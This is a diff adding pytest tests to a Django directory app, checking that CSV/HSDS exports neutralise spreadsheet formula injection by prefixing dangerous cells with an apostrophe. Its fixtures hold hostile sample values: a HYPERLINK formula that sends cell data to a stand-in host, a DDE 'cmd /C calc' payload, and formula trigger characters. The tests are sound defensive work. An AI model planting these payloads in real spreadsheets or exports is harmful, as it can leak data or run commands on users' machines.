@@ -8,15 +8,18 @@ import datetime
 import io
 import json
 import os
+import uuid
 import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
+from core.csv import CellError
 from partnerships.models import Contact, Partner, PartnerSchool, Service, ServiceCategory
-from partnerships.services.hsds import hsds_export, hsds_import, hsds_plan, hsds_read
-from partnerships.services.hsds_format import hsds_id
+from partnerships.services.directory import listing_token
+from partnerships.services.hsds import _csv_bytes, hsds_export, hsds_import, hsds_plan, hsds_read
+from partnerships.services.hsds_format import Column, hsds_id
 from partnerships.services.hsds_reader import HSDSFileError
 from schools.models import School
 from tests.factories import DistrictFactory, SchoolFactory
@@ -273,6 +276,144 @@ def test_an_export_imported_into_another_district_does_not_match_its_partners(fu
 
     assert plan.created == 0 and plan.package.error_total == 3  # names already taken
     assert "already in the directory" in plan.package.errors[0].message
+
+
+# --- Spreadsheet safety: text cannot run, typed cells stay their type, the guard comes off ----
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Harbor")'
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def hostile_directory(full_directory):
+    district = full_directory
+    read(
+        district,
+        lambda: ServiceCategory.objects.create(district=district, code="hostile", name="@SUM(1)"),
+    )
+    make_partner(
+        district,
+        name=HOSTILE_NAME,
+        description="@SUM(1+1)*cmd|' /C calc'!A0",
+        email="=x@example.org",
+        phone="+1 555 0100",
+        address="-12 Main St",
+        city="+Springfield",
+        state="\tIL",
+        postal_code="\r62701",
+        languages=["-Lang", "'=already guarded"],
+        delivery_modes=["at_partner"],
+        min_age=12,
+        eligibility="-2+3",
+        last_verified_at=datetime.datetime(2025, 3, 4, 15, 30, tzinfo=UTC),
+        last_verified_by="+cmd",
+        services=[("hostile", ""), ("therapy", "=1+1")],
+        contacts=[
+            {
+                "name": "\t=Tabbed",
+                "title": "\r=1+1",
+                "email": "-ana@example.org",
+                "phone": "=1+2",
+                "preferred_language": "@es",
+                "roles": ["intake"],
+            }
+        ],
+    )
+    return district
+
+
+def every_cell(data: bytes):
+    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
+        if name.endswith(".csv"):
+            for row in read_csv(data, name):
+                for column, cell in row.items():
+                    yield name, column, cell
+
+
+def test_hostile_text_survives_the_round_trip_exactly(hostile_directory):
+    target = empty_district_like(hostile_directory)
+
+    plan = import_into(target, export(hostile_directory))
+
+    assert plan.created == 4 and plan.package.error_total == 0
+    assert snapshot(target) == snapshot(hostile_directory)
+    hostile = read(target, lambda: Partner.objects.get(name=HOSTILE_NAME))
+    assert (hostile.phone, hostile.state, hostile.languages[1]) == (
+        "+1 555 0100",
+        "\tIL",
+        "'=already guarded",
+    )
+
+
+def test_no_exported_cell_runs_in_a_spreadsheet_and_typed_cells_are_unchanged(hostile_directory):
+    data = export(hostile_directory)
+
+    for name, column, cell in every_cell(data):
+        if (name, column, cell) != ("phones.csv", "number", "+1 555 0100"):
+            assert not cell.startswith(TRIGGERS), (name, column, cell)
+    organizations = read_csv(data, "organizations.csv")
+    assert {"'" + HOSTILE_NAME, "Harbor Counseling"} <= {row["name"] for row in organizations}
+    hostile = next(row for row in organizations if row["name"] == "'" + HOSTILE_NAME)
+    assert hostile["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert hostile["email"] == "'=x@example.org"
+    phones = {row["number"] for row in read_csv(data, "phones.csv")}
+    assert {"+1 555 0100", "'=1+2", "555-0100"} <= phones  # a phone number as it is
+    services = read_csv(data, "services.csv")
+    assert {"'=1+1", "'@SUM(1)"} <= {row["name"] for row in services}
+    assert {(row["minimum_age"], row["assured_date"]) for row in services} >= {("12", "2025-03-04")}
+    assert all(row["id"] == str(uuid.UUID(row["id"])) for row in services)
+
+
+def test_a_number_column_keeps_a_negative_longitude_and_refuses_a_formula():
+    columns = [Column("id", format="uuid"), Column("longitude", type="number"), Column("name")]
+    location = hsds_id(1, "location", 1)
+
+    data = _csv_bytes(columns, [{"id": location, "longitude": "-71.06", "name": "-West"}])
+
+    assert list(csv.reader(io.StringIO(data.decode()))) == [
+        ["id", "longitude", "name"],
+        [location, "-71.06", "'-West"],
+    ]
+    with pytest.raises(CellError):
+        _csv_bytes(columns, [{"id": location, "longitude": "=1+1", "name": ""}])
+    with pytest.raises(CellError):
+        _csv_bytes(columns, [{"id": "=1+1", "longitude": "", "name": ""}])
+
+
+def test_a_formula_planted_through_the_listing_link_exports_as_text(client, district):
+    harbor = make_partner(
+        district,
+        name="Harbor Counseling",
+        contacts=[{"name": "Ana Ruiz", "email": "ana@harbor.example.org"}],
+    )
+    ana = read(district, lambda: Contact.objects.get(partner=harbor))
+    link = reverse("listing_verify", args=[listing_token(harbor, ana)])
+
+    response = client.post(
+        link,
+        {
+            "verifier_name": "=cmd|' /C calc'!A0",
+            "description": HOSTILE_NAME,
+            "phone": "+1 555 0100",
+            "city": "-Springfield",
+            "eligibility": "@SUM(1+1)",
+            "intake": "accepting",
+        },
+    )
+
+    assert response.status_code == 200
+    data = export(district)
+    for name, column, cell in every_cell(data):
+        if (name, column, cell) != ("phones.csv", "number", "+1 555 0100"):
+            assert not cell.startswith(TRIGGERS), (name, column, cell)
+    assert read_csv(data, "organizations.csv")[0]["description"] == "'" + HOSTILE_NAME
+    assert read_csv(data, "addresses.csv")[0]["city"] == "'-Springfield"
+    assert read_csv(data, "phones.csv")[0]["number"] == "+1 555 0100"
+    values = {row["value"] for row in read_csv(data, "attributes.csv")}
+    assert {"'=cmd|' /C calc'!A0", "'@SUM(1+1)"} <= values
+    target = empty_district_like(district)
+    import_into(target, data)
+    assert snapshot(target) == snapshot(district)
 
 
 # --- A foreign package (a 211 directory) ---------------------------------------------------------
